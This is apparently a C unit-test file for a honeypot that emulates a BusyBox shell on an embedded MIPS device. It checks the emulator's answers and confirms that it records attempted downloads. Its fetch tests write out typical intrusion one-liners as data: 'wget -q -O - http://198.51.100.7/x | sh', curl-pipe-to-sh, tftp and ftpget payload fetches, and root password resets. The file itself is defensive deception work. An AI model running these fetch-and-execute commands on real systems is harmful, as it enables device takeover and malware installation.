/* What each family of applets answers: output and errors, then the status behind "=". */
#include "applets_stage.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

struct talk {
    const char *line, *answer;
};

static const char prepare[] = "mkdir d d/e; printf 'one\\ntwo\\nthree\\n' > f; printf 'b 2\\na 10\\nc 1\\na 3\\n' > t; printf "
                              "'x:y:z\\nplain\\n1:2:3\\n' > c; printf 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\\001\\377b' > r; echo '#!/bin/sh' > "
                              "d/s; ln -s f l; printf 'dup\\ndup\\nUP\\nup\\n' > u; : > empty; chmod 755 d/s";

static const struct talk text_talks[] = {
    {"echo -e 'a\\tb\\n'", "a\tb\n\n=0\n"},
    {"echo -ne '\\x41\\x4g\\0101\\101\\n'", "A\004gAA\n=0\n"},
    {"echo -e 'a\\cb' c", "a=0\n"},
    {"echo -e '\\q\\\"\\x'", "\\q\\\"\\x\n=0\n"},
    {"echo -nx a", "-nx a\n=0\n"},
    {"echo -ne '\\x00\\x7f\\xff' > z; wc -c < z; hexdump -C z",
     "3\n00000000  00 7f ff                                          |...|\n00000003\n=0\n"},
    {"printf '%d %i %u %x %X %o %c|%5s|%-5s|\\n' 1 -2 3 255 255 8 abc r l", "1 -2 3 ff FF 10 a|    r|l    |\n=0\n"},
    {"printf '%d\\n' abc", "sh: invalid number 'abc'\n0\n=1\n"},
    {"printf '%s %s\\n' a b c", "a b\nc \n=0\n"},
    {"printf 'a\\cb'", "a=0\n"},
    {"[ 1 -eq a ]", "sh: a: bad number\n=2\n"},
    {"[ a", "sh: missing ]\n=2\n"},
    {"[ a = a -a b = b ]", "=0\n"},
    {"test 1 2", "sh: 2: unknown operand\n=2\n"},
    {"test -f f && test -d d && test -L l && test -x d/s && test -s f", "=0\n"},
    {"expr 7 / 2 \\* 2", "6\n=0\n"},
    {"expr 1 / 0", "expr: division by zero\n=2\n"},
    {"expr abc : 'a\\(.\\)'", "b\n=0\n"},
    {"expr 1 +", "expr: syntax error\n=2\n"},
    {"seq 1 2 6", "1\n3\n5\n=0\n"},
    {"seq -w 8 11", "08\n09\n10\n11\n=0\n"},
    {"basename /a/b.c .c", "b\n=0\n"},
    {"dirname /a/b", "/a\n=0\n"},
    {"yes | head -n 2", "y\ny\n=0\n"},
    {"cat f nox f", "one\ntwo\nthree\ncat: can't open 'nox': No such file or directory\none\ntwo\nthree\n=1\n"},
    {"cat d", "cat: read error: Is a directory\n=1\n"},
    {"cat -n f", "     1\tone\n     2\ttwo\n     3\tthree\n=0\n"},
    {"head -n 1 f", "one\n=0\n"},
    {"head -1 f", "one\n=0\n"},
    {"head -n -1 f", "one\ntwo\n=0\n"},
    {"head -c 5 f", "one\nt=0\n"},
    {"head nox", "head: nox: No such file or directory\n=1\n"},
    {"tail -n 1 f", "three\n=0\n"},
    {"tail +2 f", "two\nthree\n=0\n"},
    {"tail nox", "tail: can't open 'nox': No such file or directory\ntail: no files\n=1\n"},
    {"wc f t", "        3         3        14 f\n        4         8        17 t\n        7        11        31 total\n=0\n"},
    {"wc -l < f", "3\n=0\n"},
    {"tac f", "three\ntwo\none\n=0\n"},
    {"rev f", "eno\nowt\neerht\n=0\n"},
    {"echo a | tee x y; cat x y", "a\na\na\n=0\n"},
    {"cut -d: -f1,3 c", "x:z\nplain\n1:3\n=0\n"},
    {"cut -c2-3 f", "ne\nwo\nhr\n=0\n"},
    {"tr a-y b-z < f", "pof\nuxp\nuisff\n=0\n"},
    {"tr -d o < f", "ne\ntw\nthree\n=0\n"},
    {"echo 'Hello World' | tr '[:upper:]' '[:lower:]'", "hello world\n=0\n"},
    {"echo aabbcc | tr -s a-z", "abc\n=0\n"},
    {"sort -n -k2 t", "c 1\nb 2\na 3\na 10\n=0\n"},
    {"sort -r f", "two\nthree\none\n=0\n"},
    {"sort -u u", "UP\ndup\nup\n=0\n"},
    {"uniq -c u", "      2 dup\n      1 UP\n      1 up\n=0\n"},
    {"uniq -d u", "dup\n=0\n"},
    {"paste -d, f t", "one,b 2\ntwo,a 10\nthree,c 1\na 3\n=0\n"},
    {"cmp f t", "f t differ: char 1, line 1\n=1\n"},
    {"grep -n o f", "1:one\n2:two\n=0\n"},
    {"grep -c o f", "2\n=0\n"},
    {"grep -v o f", "three\n=0\n"},
    {"grep -i ONE f", "one\n=0\n"},
    {"grep -w one f", "one\n=0\n"},
    {"grep -o 't.' f", "tw\nth\n=0\n"},
    {"grep o nox f", "grep: nox: No such file or directory\nf:one\nf:two\n=2\n"},
    {"grep '[' f", "grep: bad regex '['\n=2\n"},
    {"grep -E 'one|three' f", "one\nthree\n=0\n"},
    {"grep 't\\{1,\\}' f", "two\nthree\n=0\n"},
    {"grep -E '((a*)*)*b' f", "=1\n"},
    {"sed 's/o/0/g' f", "0ne\ntw0\nthree\n=0\n"},
    {"sed -n 2p f", "two\n=0\n"},
    {"sed '$d' f", "one\ntwo\n=0\n"},
    {"sed 's/\\(o\\)\\(n\\)/\\2\\1/' f", "noe\ntwo\nthree\n=0\n"},
    {"sed '/one/,/two/d' f", "three\n=0\n"},
    {"sed -n 'H;${x;s/\\n/,/g;p}' f", ",one,two,three\n=0\n"},
    {"echo abc | sed 's/b*/-/g'", "-a-c-\n=0\n"},
    {"sed s/x f", "sed: unmatched '/'\n=1\n"},
    {"sed zz f", "sed: unsupported command z\n=1\n"},
    {"sed -i 's/one/1/' f; cat f", "1\ntwo\nthree\n=0\n"},
    {"awk '{print $2, $1}' t", "2 b\n10 a\n1 c\n3 a\n=0\n"},
    {"awk -F: '/1/{print $3}' c", "3\n=0\n"},
    {"awk 'END{print NR}' f", "3\n=0\n"},
    {"hexdump r", "0000000 4141 4141 4141 4141 4141 4141 4141 4141\n*\n0000020 4141 4141 4141 4141 ff01 0062          \n000002b\n=0\n"},
    {"hexdump -C r", "00000000  41 41 41 41 41 41 41 41  41 41 41 41 41 41 41 41  |AAAAAAAAAAAAAAAA|\n*\n00000020  41 41 41 41 41 41 41 41  01 ff 62 "
                     "                |AAAAAAAA..b|\n0000002b\n=0\n"},
    {"hexdump -e '16/1 \"%02x\" \"\\n\"' f", "6f6e650a74776f0a74687265650a    \n=0\n"},
    {"hexdump -v -n 3 -e '/1 \"%02x\"' f", "6f6e65=0\n"},
    {"od -c r", "0000000   A   A   A   A   A   A   A   A   A   A   A   A   A   A   A   A\n*\n0000040   A   A   A   A   A   A   A   A 001 377   "
                "b\n0000053\n=0\n"},
    {"od -An -tx1 f", " 6f 6e 65 0a 74 77 6f 0a 74 68 72 65 65 0a\n=0\n"},
    {"xxd f", "00000000: 6f6e 650a 7477 6f0a 7468 7265 650a       one.two.three.\n=0\n"},
    {"xxd -p r", "414141414141414141414141414141414141414141414141414141414141\n4141414141414141414101ff62\n=0\n"},
    {"strings -n 3 f", "one\ntwo\nthree\n=0\n"},
    {"md5sum f nox", "deed54b823522e0525693b090363f9df  f\nmd5sum: can't open 'nox': No such file or directory\n=1\n"},
    {"sha256sum f", "b6285c57e8797db5d4c51c80d6f11938afda9b11c6a003549709189e9b4b92a2  f\n=0\n"},
    {"base64 r", "QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQQH/Yg==\n=0\n"},
    {"echo aGVsbG8= | base64 -d", "hello=0\n"},
    {"cksum f", "3358846701 14 f\n=0\n"},
    {"diff f t", "--- f\n+++ t\n@@ -1,3 +1,4 @@\n-one\n-two\n-three\n+b 2\n+a 10\n+c 1\n+a 3\n=1\n"},
};

static const struct talk file_talks[] = {
    {"cp nox y", "cp: can't stat 'nox': No such file or directory\n=1\n"},
    {"cp f nodir/x", "cp: can't create 'nodir/x': No such file or directory\n=1\n"},
    {"cp d e", "cp: omitting directory 'd'\n=1\n"},
    {"cp f d; ls d", "e\nf\ns\n=0\n"},
    {"cp -r d e; ls e", "e\ns\n=0\n"},
    {"cp f f", "cp: 'f' and 'f' are the same file\n=1\n"},
    {"mv nox y", "mv: can't rename 'nox': No such file or directory\n=1\n"},
    {"mv f g; ls", "c\nd\nempty\ng\nl\nr\nt\nu\n=0\n"},
    {"mv f t d; ls d", "e\nf\ns\nt\n=0\n"},
    {"rm nox", "rm: can't remove 'nox': No such file or directory\n=1\n"},
    {"rm d", "rm: 'd' is a directory\n=1\n"},
    {"rm -rf d f nox; ls", "c\nempty\nl\nr\nt\nu\n=0\n"},
    {"rm -f", "=0\n"},
    {"rm .", "rm: can't remove '.' or '..'\n=1\n"},
    {"mkdir d", "mkdir: can't create directory 'd': File exists\n=1\n"},
    {"mkdir a/b", "mkdir: can't create directory 'a/b': No such file or directory\n=1\n"},
    {"mkdir -p a/b; ls a", "b\n=0\n"},
    {"rmdir nox", "rmdir: 'nox': No such file or directory\n=1\n"},
    {"rmdir d", "rmdir: 'd': Directory not empty\n=1\n"},
    {"touch new; ls", "c\nd\nempty\nf\nl\nnew\nr\nt\nu\n=0\n"},
    {"touch nod/x", "touch: nod/x: No such file or directory\n=1\n"},
    {"touch /etc/x", "touch: /etc/x: Read-only file system\n=1\n"},
    {"ln -s f f", "ln: f: File exists\n=1\n"},
    {"ln -s nox z; cat z", "cat: can't open 'z': No such file or directory\n=1\n"},
    {"ln f hard; cat hard", "one\ntwo\nthree\n=0\n"},
    {"chmod 777 nox", "chmod: nox: No such file or directory\n=1\n"},
    {"chmod abc f", "chmod: invalid mode 'abc'\n=1\n"},
    {"chmod 4755 f; ls -l f | cut -c1-10", "-rwsr-xr-x\n=0\n"},
    {"chmod u=rwx,go-r f; ls -l f | cut -c1-10", "-rwx------\n=0\n"},
    {"chmod 777 d; ls -ld d | cut -c1-10", "drwxrwxrwx\n=0\n"},
    {"chown nouser f", "chown: unknown user nouser\n=1\n"},
    {"cp /bin/busybox /etc/x", "cp: can't create '/etc/x': Read-only file system\n=1\n"},
    {"ls", "c\nd\nempty\nf\nl\nr\nt\nu\n=0\n"},
    {"ls -a", ".\n..\nc\nd\nempty\nf\nl\nr\nt\nu\n=0\n"},
    {"ls f nox d", "ls: nox: No such file or directory\nf\n\nd:\ne\ns\n=1\n"},
    {"ls -R d", "d:\ne\ns\n\nd/e:\n=0\n"},
    {"ls -F", "c\nd/\nempty\nf\nl@\nr\nt\nu\n=0\n"},
    {"ls -l /dev/null | cut -c1-42", "crw-rw-rw-    1 root     root        1,   \n=0\n"},
    {"readlink l", "f\n=0\n"},
    {"find . | sort", ".\n./c\n./d\n./d/e\n./d/s\n./empty\n./f\n./l\n./r\n./t\n./u\n=0\n"},
    {"find . -name '*s' -exec echo found {} \\;", "found ./d/s\n=0\n"},
    {"find . -type f -size 0c", "./empty\n=0\n"},
    {"find . -foo 2>&1 | head -n 1", "find: unrecognized: -foo\n=0\n"},
    {"find . -maxdepth 1 -type d", ".\n./d\n=0\n"},
    {"stat -c '%n %s %F %a' f l", "f 14 regular file 644\nl 1 symbolic link 777\n=0\n"},
    {"dd if=f bs=2 count=2", "one\n2+0 records in\n2+0 records out\n=0\n"},
    {"dd if=f of=g bs=4; cat g", "3+1 records in\n3+1 records out\none\ntwo\nthree\n=0\n"},
    {"dd if=nox", "dd: can't open 'nox': No such file or directory\n=1\n"},
    {"dd bs=52 count=1 if=/bin/busybox | hexdump -C | head -n 1",
     "1+0 records in\n1+0 records out\n00000000  7f 45 4c 46 01 01 01 00  00 00 00 00 00 00 00 00  |.ELF............|\n=0\n"},
    {"dd if=t of=f bs=1 seek=2 conv=notrunc; cat f", "17+0 records in\n17+0 records out\nonb 2\na 10\nc 1\na 3\n=0\n"},
    {"dd bs=0 if=f", "dd: number 0 is not in 1..9223372036854775807 range\n=1\n"},
    {"dd if=/dev/zero bs=1M count=4 of=/dev/null", "4+0 records in\n4+0 records out\n=0\n"},
    {"truncate -s 3 f; cat f", "one=0\n"},
    {"mktemp -u /tmp/aXXX", "mktemp: /tmp/aXXX: Invalid argument\n=1\n"},
    {"mknod p p; ls p", "p\n=0\n"},
    {"gunzip f", "gunzip: f: unknown suffix - ignored\n=1\n"},
    {"zcat f", "zcat: invalid magic\n=1\n"},
    {"tar xf nox", "tar: can't open 'nox': No such file or directory\n=1\n"},
    {"tar xzf f", "tar: invalid magic\ntar: short read\n=1\n"},
    {"unzip nox", "unzip: can't open nox[.zip]\n=1\n"},
};

static const struct talk machine_talks[] = {
    {"ps", "  PID USER       VSZ STAT COMMAND\n    1 root      1288 S    init\n    2 root         0 SW   [kthreadd]\n  512 root      1296 S    "
           "/usr/sbin/telnetd -l /bin/login\n  810 root      1300 S    -sh\n 1674 root      1300 R    ps\n=0\n"},
    {"ps w | wc -l", "6\n=0\n"},
    {"ps -o pid,comm | head -n 3", "PID   COMMAND         \n    1 init            \n    2 kthreadd        \n=0\n"},
    {"kill 99999", "sh: can't kill pid 99999: No such process\n=1\n"},
    {"kill -l 9", "KILL\n=0\n"},
    {"kill abc", "sh: invalid number 'abc'\n=1\n"},
    {"kill", "sh: you need to specify whom to kill\n=1\n"},
    {"busybox kill 99999", "kill: can't kill pid 99999: No such process\n=1\n"},
    {"kill -9 512", "=0\n"},
    {"killall nox", "killall: nox: no process killed\n=1\n"},
    {"killall -9 telnetd", "=0\n"},
    {"pidof telnetd", "512\n=0\n"},
    {"pidof nox", "=1\n"},
    {"uname", "Linux\n=0\n"},
    {"uname -a", "Linux device 2.6.30.9 #1 Tue Mar 4 10:00:00 CST 2014 mips GNU/Linux\n=0\n"},
    {"uname -m", "mips\n=0\n"},
    {"uname -s -v -n -r", "Linux device 2.6.30.9 #1 Tue Mar 4 10:00:00 CST 2014\n=0\n"},
    {"uname -z 2>&1 | head -n 1", "uname: invalid option -- 'z'\n=0\n"},
    {"hostname", "device\n=0\n"},
    {"id", "uid=0(root) gid=0(root)\n=0\n"},
    {"id -u", "0\n=0\n"},
    {"whoami", "root\n=0\n"},
    {"free", "             total         used         free       shared      buffers\nMem:         61952        50168        11784            0      "
             "   2312\n-/+ buffers:              47856        14096\nSwap:            0            0            0\n=0\n"},
    {"uptime", " 00:13:20 up 7 days, 16:28,  load average: 0.12, 0.08, 0.02\n=0\n"},
    {"date -d @0", "Thu Jan  1 00:00:00 UTC 1970\n=0\n"},
    {"date '+%Y-%m-%d'", "2026-11-21\n=0\n"},
    {"mount", "/dev/root on / type squashfs (ro,relatime)\nproc on /proc type proc (rw,relatime)\ntmpfs on /tmp type tmpfs (rw,relatime)\n=0\n"},
    {"mount -o remount,rw /", "=0\n"},
    {"mount -t tmpfs none /tmp", "=0\n"},
    {"mount /dev/sda1 /tmp", "mount: mounting /dev/sda1 on /tmp failed: No such file or directory\n=255\n"},
    {"umount /tmp", "umount: can't unmount /tmp: Device or resource busy\n=1\n"},
    {"umount /nox", "umount: can't unmount /nox: No such file or directory\n=1\n"},
    {"df", "Filesystem           1K-blocks      Used Available Use% Mounted on\n/dev/root                 9728      9728         0 100% /\ntmpfs     "
           "               30976        32     30944   0% /tmp\n=0\n"},
    {"lsmod", "Module                  Size  Used by    Not tainted\nusbcore               126592  1 \n=0\n"},
    {"insmod nox.ko", "insmod: can't insert 'nox.ko': No such file or directory\n=1\n"},
    {"sysctl kernel.hostname", "kernel.hostname = device\n=0\n"},
    {"sysctl kernel.nox", "sysctl: error: 'kernel/nox' is an unknown key\n=1\n"},
    {"ifconfig eth0", "eth0      Link encap:Ethernet  HWaddr 00:12:34:56:78:9A  \n          inet addr:192.0.2.20  Bcast:192.0.2.255  "
                      "Mask:255.255.255.0\n          UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n          RX packets:1897637 errors:0 "
                      "dropped:0 overruns:0 frame:0\n          TX packets:1021860 errors:0 dropped:0 overruns:0 carrier:0\n          collisions:0 "
                      "txqueuelen:1000 \n          RX bytes:413684866 (394.5 MiB)  TX bytes:351519840 (335.2 MiB)\n          Interrupt:28 \n\n=0\n"},
    {"ifconfig eth9", "ifconfig: eth9: error fetching interface information: Device not found\n=1\n"},
    {"route -n",
     "Kernel IP routing table\nDestination     Gateway         Genmask         Flags Metric Ref    Use Iface\n192.0.2.0       0.0.0.0         "
     "255.255.255.0   U     0      0        0 eth0\n0.0.0.0         192.0.2.1       0.0.0.0         UG    0      0        0 eth0\n=0\n"},
    {"ip a", "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 16436 qdisc noqueue \n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n    inet "
             "127.0.0.1/8 scope host lo\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc pfifo_fast qlen 1000\n    link/ether "
             "00:12:34:56:78:9a brd ff:ff:ff:ff:ff:ff\n    inet 192.0.2.20/24 brd 192.0.2.255 scope global eth0\n=0\n"},
    {"ip r", "default via 192.0.2.1 dev eth0 \n192.0.2.0/24 dev eth0  src 192.0.2.20 \n=0\n"},
    {"arp", "? (192.0.2.1) at 00:1d:aa:4d:53:f4 [ether]  on eth0\n=0\n"},
    {"netstat -tln", "Active Internet connections (only servers)\nProto Recv-Q Send-Q Local Address           Foreign Address         State       "
                     "\ntcp        0      0 0.0.0.0:23              0.0.0.0:*               LISTEN      \n=0\n"},
    {"ping -c 1 192.0.2.9",
     "PING 192.0.2.9 (192.0.2.9): 56 data bytes\n64 bytes from 192.0.2.9: seq=0 ttl=52 time=90.333 ms\n\n--- 192.0.2.9 ping statistics ---\n1 "
     "packets transmitted, 1 packets received, 0% packet loss\nround-trip min/avg/max = 90.333/91.133/92.232 ms\n=0\n"},
    {"nslookup a.example", "Server:    192.0.2.53\nAddress 1: 192.0.2.53\n\nName:      a.example\nAddress 1: 198.18.42.245\n=0\n"},
    {"which ls nox", "/bin/ls\n=1\n"},
    {"which busybox", "/bin/busybox\n=0\n"},
    {"busybox nox", "nox: applet not found\n=127\n"},
    {"busybox echo a", "a\n=0\n"},
    {"busybox | head -n 3", "BusyBox v1.19.4 (2014-01-01 00:00:00 UTC) multi-call binary.\nCopyright (C) 1998-2011 Erik Andersen, Rob Landley, Denys "
                            "Vlasenko\nand others. Licensed under GPLv2.\n=0\n"},
    {"busybox | sed -n '12,14p'", "\twill act like whatever it was invoked as.\n\nCurrently defined functions:\n=0\n"},
    {"env A=1 sh -c 'echo $A'", "1\n=0\n"},
    {"env nox", "env: can't execute 'nox': No such file or directory\n=127\n"},
    {"echo 'a b' | xargs -n 1 echo x", "x a\nx b\n=0\n"},
    {"echo x | xargs nox", "xargs: nox: No such file or directory\n=127\n"},
    {"timeout 5 echo a", "a\n=0\n"},
    {"nohup echo a", "a\n=0\n"},
    {"setsid echo a", "a\n=0\n"},
    {"sh nox", "sh: can't open 'nox'\n=127\n"},
    {"sh -c 'echo $0 $1' x y", "x y\n=0\n"},
    {"echo 'echo hi' | sh", "hi\n=0\n"},
    {"printf '#!/bin/sh\\necho script $1\\n' > s; sh s a; chmod +x s; ./s b", "script a\nscript b\n=0\n"},
    {"su nouser", "su: unknown user nouser\n=1\n"},
    {"passwd nouser", "passwd: unknown user nouser\n=1\n"},
    {"printf 'a\\na\\n' | passwd root", "Changing password for root\nNew password: \nRetype password: \nPassword for root changed by root\n=0\n"},
    {"echo root:x | chpasswd", "Password for 'root' changed\n=0\n"},
    {"crontab -l", "crontab: can't change directory to '/var/spool/cron/crontabs': No such file or directory\n=1\n"},
    {"insmod 2>&1 | head -n 1", "BusyBox v1.19.4 (2014-01-01 00:00:00 UTC) multi-call binary.\n=0\n"},
    {"nproc", "1\n=0\n"},
    {"arch", "mips\n=0\n"},
    {"tty", "not a tty\n=1\n"},
    {"clear | od -c | head -n 1", "0000000 033   [   H 033   [   J\n=0\n"},
    {"vi --help 2>&1 | sed -n 3p", "Usage: vi [OPTIONS] [FILE]...\n=0\n"},
    {"init", "init: must be run as PID 1\n=1\n"},
    {"logger x; sync; syslogd", "=0\n"},
    {"flash_eraseall /dev/mtd9", "flash_eraseall: can't open '/dev/mtd9': No such file or directory\n=1\n"},
};

static const struct talk fetch_talks[] = {
    {"wget http://198.51.100.7/bins/x.sh; ls -l x.sh | cut -c1-43; ./x.sh; chmod +x x.sh; ./x.sh; sh x.sh",
     "Connecting to 198.51.100.7 (198.51.100.7:80)\n\015x.sh                 100% |*******************************|  1670  00:00:00 ETA\n-rw-r--r--  "
     "  1 root     root          1670\n-sh: ./x.sh: Permission denied\n=0\n"},
    {"wget http://198.51.100.7/x; wget http://198.51.100.7/x",
     "Connecting to 198.51.100.7 (198.51.100.7:80)\n\015x                    100% |*******************************|  101k 00:00:00 ETA\nConnecting "
     "to 198.51.100.7 (198.51.100.7:80)\nwget: can't open 'x': File exists\n=1\n"},
    {"wget http://198.51.100.7:8080/x?a=1 -O y; head -c 4 y | hexdump -C",
     "Connecting to 198.51.100.7 (198.51.100.7:8080)\n\015y                    100% |*******************************| 98813  00:00:00 ETA\n00000000  "
     "7f 45 4c 46                                       |.ELF|\n00000004\n=0\n"},
    {"wget -q -O - http://198.51.100.7/x | sh", "=0\n"},
    {"wget https://x.example/x", "wget: not an http or ftp url: https://x.example/x\n=1\n"},
    {"wget -c http://198.51.100.7/x -P /nowhere",
     "Connecting to 198.51.100.7 (198.51.100.7:80)\nwget: can't open '/nowhere/x': No such file or directory\n=1\n"},
    {"wget http://198.51.100.7/x -O /etc/x", "Connecting to 198.51.100.7 (198.51.100.7:80)\nwget: can't open '/etc/x': Read-only file system\n=1\n"},
    {"wget http://x.example/",
     "Connecting to x.example (198.19.149.224:80)\n\015index.html           100% |*******************************| 73344  00:00:00 ETA\n=0\n"},
    {"wget 198.51.100.7/x",
     "Connecting to 198.51.100.7 (198.51.100.7:80)\n\015x                    100% |*******************************|  101k 00:00:00 ETA\n=0\n"},
    {"wget 2>&1 | sed -n 3p", "Usage: wget [-c|--continue] [-s|--spider] [-q|--quiet] [-O|--output-document FILE]\n=0\n"},
    {"curl -s -O http://198.51.100.7/x; ls x", "x\n=0\n"},
    {"curl http://198.51.100.7/x | sh",
     "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n                                 Dload  Upload   Total   "
     "Spent    Left  Speed\n\015  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0\015100 103816  100 103816    0     0  "
     "207632      0 --:--:-- --:--:-- --:--:-- 207632\n=0\n"},
    {"curl", "curl: try 'curl --help' or 'curl --manual' for more information\n=2\n"},
    {"tftp -g -r x 198.51.100.7; ls x", "x\n=0\n"},
    {"tftp -g -l y -r dir/x 198.51.100.7; ls y", "y\n=0\n"},
    {"tftp 198.51.100.7 -c get x 2>&1 | head -n 1", "tftp: invalid option -- 'c'\n=0\n"},
    {"tftp 198.51.100.7 2>&1 | sed -n 3p", "Usage: tftp [OPTIONS] HOST [PORT]\n=0\n"},
    {"ftpget 198.51.100.7 y dir/x; ls y", "y\n=0\n"},
    {"ftpget -u a -p b 198.51.100.7 x; ls x", "x\n=0\n"},
    {"ftpput 198.51.100.7 f", "ftpput: can't connect to remote host (198.51.100.7): Connection refused\n=1\n"},
    {"nc 198.51.100.7 99 > x", "=0\n"},
    {"nc 2>&1 | sed -n 3p", "Usage: nc [-iN] [-wN] [-l] [-p PORT] [-f FILE|IPADDR PORT] [-e PROG]\n=0\n"},
    {"telnet 198.51.100.7", "telnet: can't connect to remote host (198.51.100.7): Connection refused\n=1\n"},
    {"cp /bin/busybox x; wget -q http://198.51.100.7/x -O x; ./x; echo $?", "0\n=0\n"},
};

static void answers(const struct talk *talks, size_t count)
{
    struct profile profile = whole_profile();
    for (size_t i = 0; i < count; i++) {
        struct stage s;
        struct buf script;
        assert_int_equal(stage_open(&s, &profile), 0);
        s.now = INT64_C(1795220000) * USEC_PER_SEC;
        (void)stage_lines(&s, "cd /tmp/w");
        (void)stage_lines(&s, prepare);
        buf_init(&script, 64 * 1024);
        buf_printf(&script, "(%s ; echo \"=$?\") </dev/null 2>&1 | cat", talks[i].line);
        (void)stage_lines(&s, buf_cstr(&script));
        /* The prompt comes last. */
        struct span said = span_part(buf_as_span(&s.said), 0, s.said.len - 2);
        if (!span_is(said, talks[i].answer))
            fail_msg("%s\n  expected: %s\n  answered: %.*s", talks[i].line, talks[i].answer, (int)said.len, (const char *)said.at);
        buf_done(&script);
        stage_close(&s);
    }
}

#define TALKS(name)                                                          \
    static void name(void **state)                                           \
    {                                                                        \
        (void)state;                                                         \
        answers(name##_talks, sizeof name##_talks / sizeof name##_talks[0]); \
    }
TALKS(text)
TALKS(file)
TALKS(machine)
TALKS(fetch)

static void downloads_are_stated(void **state)
{
    (void)state;
    struct profile profile = whole_profile();
    static const struct {
        const char *line, *fact;
    } stated[] = {
        {"wget http://198.51.100.7/bins/x.sh", "download method=wget url=http://198.51.100.7/bins/x.sh"},
        {"cd /tmp; wget http://198.51.100.7/bins/x.sh", "path=/tmp/x.sh"},
        {"wget -qO- http://198.51.100.7/x | sh", "download method=wget url=http://198.51.100.7/x"},
        {"wget https://x.example/a", "download method=wget url=https://x.example/a"},
        {"wget x.example/a", "download method=wget url=x.example/a"},
        {"cd /tmp && curl -O http://198.51.100.7/c", "path=/tmp/c"},
        {"tftp -g -r a.sh 198.51.100.7", "download method=tftp"},
        {"tftp 198.51.100.7 -c get b.sh", "download method=tftp"},
        {"ftpget -v -u anonymous -p anonymous -P 21 198.51.100.7 c c", "download method=ftpget"},
        {"nc 198.51.100.7 9 > /tmp/x", "download method=nc"},
        {"busybox wget http://198.51.100.7/x", "download method=wget"},
    };
    for (size_t i = 0; i < sizeof stated / sizeof stated[0]; i++) {
        struct stage s;
        assert_int_equal(stage_open(&s, &profile), 0);
        (void)stage_lines(&s, stated[i].line);
        if (strstr(buf_cstr(&s.facts), stated[i].fact) == NULL)
            fail_msg("%s: %s", stated[i].line, buf_cstr(&s.facts));
        assert_null(strstr(buf_cstr(&s.facts), "sample"));
        stage_close(&s);
    }
}

static void terminals_see_columns_and_endings(void **state)
{
    (void)state;
    struct profile profile = whole_profile();
    struct stage s;
    assert_int_equal(stage_open(&s, &profile), 0);
    profile.busybox_version = span_text("v1.19.4 (2014-01-01 00:00:01 UTC)"); /* a build without colours */
    assert_string_equal(stage_lines(&s, "ls /"), "bin   dev   etc   proc  tmp   usr\n# ");
    assert_string_equal(stage_lines(&s, "ls / | head -n 2"), "bin\ndev\n# ");
    /* cat and grep answer line by line, wc at the end. */
    assert_string_equal(stage_lines(&s, "cat\na\nb"), "a\nb\n");
    shell_end_of_file(s.shell);
    assert_string_equal(stage_lines(&s, "echo x"), "x\n# ");
    (void)stage_lines(&s, "wc -l\na\nb");
    buf_clear(&s.said);
    shell_end_of_file(s.shell);
    assert_string_equal(buf_cstr(&s.said), "2\n# ");
    /* passwd asks, and takes the two lines that follow. */
    assert_string_equal(stage_lines(&s, "passwd\na\na"),
                        "Changing password for root\nNew password: Retype password: Password for root changed by root\n# ");
    assert_string_equal(
        stage_lines(&s, "passwd\na\nb\necho $?"),
        "Changing password for root\nNew password: Retype password: Passwords don't match\npasswd: password for root is unchanged\n# 1\n# ");
    /* A reboot is the end, however deep. */
    (void)stage_lines(&s, "sh\nsh\nreboot");
    assert_int_equal(s.ended, REASON_LOGOUT);
    stage_close(&s);
}

static void versions_differ(void **state)
{
    (void)state;
    static const struct talk talks[] = {
        {"v1.01 (2009.01.01-00:00+0000)", "  PID  Uid     VmSize Stat Command\n"},
        {"v1.19.4 (2014-01-01 00:00:00 UTC)", "  PID USER       VSZ STAT COMMAND\n"},
    };
    for (size_t i = 0; i < sizeof talks / sizeof talks[0]; i++) {
        struct profile profile = whole_profile();
        struct stage s;
        profile.busybox_version = span_text(talks[i].line);
        assert_int_equal(stage_open(&s, &profile), 0);
        const char *said = stage_lines(&s, "ps");
        assert_int_equal(strncmp(said, talks[i].answer, strlen(talks[i].answer)), 0);
        stage_close(&s);
    }
    struct profile profile = whole_profile();
    struct stage s;
    profile.busybox_version = span_text("v1.35.0 (2022)");
    assert_int_equal(stage_open(&s, &profile), 0);
    (void)stage_lines(&s, "cd /tmp; wget http://198.51.100.7/x");
    assert_non_null(strstr(buf_cstr(&s.said), "saving to 'x'\n"));
    assert_non_null(strstr(buf_cstr(&s.said), "'x' saved\n"));
    stage_close(&s);
}

static void binaries_have_the_byte_order_of_the_device(void **state)
{
    (void)state;
    struct profile profile = whole_profile();
    struct stage s;
    profile.machine = MACHINE_MIPS;
    assert_int_equal(stage_open(&s, &profile), 0);
    assert_string_equal(stage_lines(&s, "printf '\\001\\002' | hexdump | head -n 1 | cut -c1-12"), "0000000 0102\n# ");
    stage_close(&s);
    profile.machine = MACHINE_MIPSEL;
    assert_int_equal(stage_open(&s, &profile), 0);
    assert_string_equal(stage_lines(&s, "printf '\\001\\002' | hexdump | head -n 1 | cut -c1-12"), "0000000 0201\n# ");
    stage_close(&s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(text),
        cmocka_unit_test(file),
        cmocka_unit_test(machine),
        cmocka_unit_test(fetch),
        cmocka_unit_test(downloads_are_stated),
        cmocka_unit_test(terminals_see_columns_and_endings),
        cmocka_unit_test(versions_differ),
        cmocka_unit_test(binaries_have_the_byte_order_of_the_device),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
